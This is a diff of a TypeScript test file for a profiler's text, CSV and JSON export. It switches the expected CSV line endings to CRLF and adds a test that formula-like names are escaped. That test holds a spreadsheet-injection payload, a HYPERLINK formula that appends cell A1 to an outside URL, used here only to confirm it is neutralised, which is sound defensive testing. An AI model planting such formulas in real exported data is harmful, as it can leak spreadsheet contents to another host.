@@ -202,8 +202,8 @@ test('rows and stacks are copied with exact amounts', () => {
   const rows = (as: 'text' | 'CSV' | 'JSON'): string => rowsText(graph, labels, [1, 2], ['bytes', 'blocks'], as);
   assert.equal(
     rows('CSV'),
-    'depth,name,bytes,self bytes,blocks,self blocks\n' +
-      '1,"a ""b"", c",4503599627370502,5,4,1\n2,d,4503599627370497,4503599627370497,3,3\n',
+    'depth,name,bytes,self bytes,blocks,self blocks\r\n' +
+      '1,"a ""b"", c",4503599627370502,5,4,1\r\n2,d,4503599627370497,4503599627370497,3,3\r\n',
   );
   assert.deepEqual(JSON.parse(rows('JSON'))[1], {
     depth: 2, name: 'd', bytes: 2 ** 52 + 1, 'self bytes': 2 ** 52 + 1, blocks: 3, 'self blocks': 3,
@@ -212,4 +212,11 @@ test('rows and stacks are copied with exact amounts', () => {
   assert.equal(stackText(graph, 2), 'a "b", c (m /x/a.c:3)\nd\n');
   const callers = BottomUp.ofTree(tree);
   assert.equal(stackText(callers, callers.firstChild(callers.firstChild(0))), 'a "b", c (m /x/a.c:3)\nd\n');
+});
+
+test('a name that a spreadsheet would take for a formula is text in CSV', () => {
+  const names = [{function: ''}, {function: '=HYPERLINK("http://example.org/"&A1)'}, {function: '-x'}];
+  const graph = new TopDown(treeOf(columnsOf([{frames: [1, 2], amounts: [8, 1]}], names), 'function', 0));
+  const csv = rowsText(graph, new Labels(graph), [1, 2], ['bytes'], 'CSV');
+  assert.equal(csv, `depth,name,bytes,self bytes\r\n1,"'=HYPERLINK(""http://example.org/""&A1)",8,0\r\n2,'-x,8,8\r\n`);
 });
